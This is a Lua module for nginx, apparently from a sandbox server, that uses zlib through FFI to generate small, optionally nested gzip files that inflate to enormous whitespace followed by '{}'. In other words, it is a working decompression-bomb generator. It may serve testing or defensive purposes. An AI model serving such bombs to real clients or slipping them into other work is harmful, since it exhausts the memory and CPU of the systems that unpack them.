--- Makes small gzip files that inflate to very much white space followed by `{}`. Runs in nginx, with the zlib that
-- nginx itself is linked with.
-- @module smmpanel.sandbox.server.bomb

local bit = require "bit"
local ffi = require "ffi"

ffi.cdef [[
typedef struct {
  const char *next_in; unsigned avail_in; unsigned long total_in;
  char *next_out; unsigned avail_out; unsigned long total_out;
  const char *msg; void *state; void *zalloc; void *zfree; void *opaque;
  int data_type; unsigned long adler; unsigned long reserved;
} sandbox_z_stream;
int deflateInit2_(sandbox_z_stream *, int level, int method, int window, int memory, int strategy,
                  const char *version, int size);
int deflate(sandbox_z_stream *, int flush);
int deflateEnd(sandbox_z_stream *);
unsigned long compressBound(unsigned long);
unsigned long crc32(unsigned long, const char *, unsigned);
unsigned long crc32_combine(unsigned long, unsigned long, long);
const char *zlibVersion(void);
]]

local zlib = ffi.load("libz.so.1")

local bomb = {}

local PIECE = 1024 * 1024
local HEADER = "\31\139\8\0\0\0\0\0\2\3"
local FULL_FLUSH, FINISH = 3, 4

-- Returns a piece of a raw deflate stream. A piece that ends with a full flush is a whole number of bytes and does not
-- refer to earlier data, so it can be repeated and followed by any other piece.
local function deflate(text, flush)
  local z, size = ffi.new("sandbox_z_stream"), tonumber(zlib.compressBound(#text)) + 64
  local room = ffi.new("char[?]", size)
  local started = zlib.deflateInit2_(z, 9, 8, -15, 9, 0, zlib.zlibVersion(), ffi.sizeof(z))
  assert(started == 0, "zlib does not start")
  z.next_in, z.avail_in, z.next_out, z.avail_out = text, #text, room, size
  zlib.deflate(z, flush)
  local deflated = ffi.string(room, size - z.avail_out)
  zlib.deflateEnd(z)
  return deflated
end

local function little_endian(n)
  n = bit.tobit(n)
  return string.char(bit.band(n, 255), bit.band(bit.rshift(n, 8), 255), bit.band(bit.rshift(n, 16), 255),
    bit.rshift(n, 24))
end

-- Returns a gzip file of a repeated text and a tail.
local function gzip(text, times, tail)
  local checksum, of_text = ffi.cast("unsigned long", 0), zlib.crc32(0, text, #text)
  for _ = 1, times do
    checksum = zlib.crc32_combine(checksum, of_text, #text)
  end
  checksum = zlib.crc32_combine(checksum, zlib.crc32(0, tail, #tail), #tail)
  return HEADER .. deflate(text, FULL_FLUSH):rep(times) .. deflate(tail, FINISH) ..
    little_endian(tonumber(checksum)) .. little_endian(#text * times + #tail)
end

local made = {}

--- A gzip file of about `size` bytes (rounded up to whole MiB), compressed `levels` times.
---@param size integer
---@param levels integer
---@return string
function bomb.make(size, levels)
  local name = size .. "/" .. levels
  if not made[name] then
    made[name] = levels > 1 and gzip(bomb.make(size, levels - 1), 1, "")
      or gzip((" "):rep(PIECE), math.ceil(size / PIECE), "{}")
  end
  return made[name]
end

return bomb
